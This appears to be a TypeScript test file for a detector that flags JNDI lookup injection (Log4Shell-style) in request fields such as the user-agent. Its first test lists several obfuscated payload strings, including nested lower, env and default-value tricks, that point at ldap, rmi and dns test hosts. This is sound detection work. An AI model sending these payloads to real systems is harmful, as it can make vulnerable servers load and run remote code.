import assert from 'node:assert/strict'
import { test } from 'node:test'

import type { AttackFinding, Part } from '../../detector.ts'
import { jndiDetector } from './index.ts'

function judge(value: string, place: Part['place'] = 'user-agent', name = 'q'): AttackFinding | undefined {
  return jndiDetector.detect(value, { place, name, raw: value, values: [value] })
}

test('lookups are told however they are nested', () => {
  for (const value of [
    '${jndi:ldap://198.51.100.1/a}',
    '${${lower:J}ndi:${lower:RMI}://h.test/a}',
    '${${::-j}${::-n}${::-d}${::-i}:dns://h.test}',
    '${${env:NO_SUCH:-j}ndi${env:X:-:}ldap://h.test/a}',
    'x ${j${main:\\k5:-Nd}i${spring:k5:-:}ldap://h.test/} y',
    '\\u0024{jndi:ldap://h.test}',
    '${j${k8s:k5:-ND}i:ldap://h.test}',
  ]) {
    const found = judge(value)
    assert.equal(found?.detector, 'jndi', value)
    assert.ok(found.confidence >= 60, value)
  }
})

test('other lookups and dollar signs are nothing', () => {
  for (const value of [
    '${user.name}',
    'costs $5 {net}',
    '${date:yyyy}',
    'jndi:ldap is what the CVE is about',
    '${${a}}',
  ]) {
    assert.ok((judge(value)?.confidence ?? 0) < 60, value)
  }
})

test('lookups nested without end stay bounded', () => {
  const deep = `${'${lower:'.repeat(900)}x${'}'.repeat(900)}`
  const start = performance.now()
  assert.equal(judge(deep), undefined)
  assert.ok(performance.now() - start < 100)
})
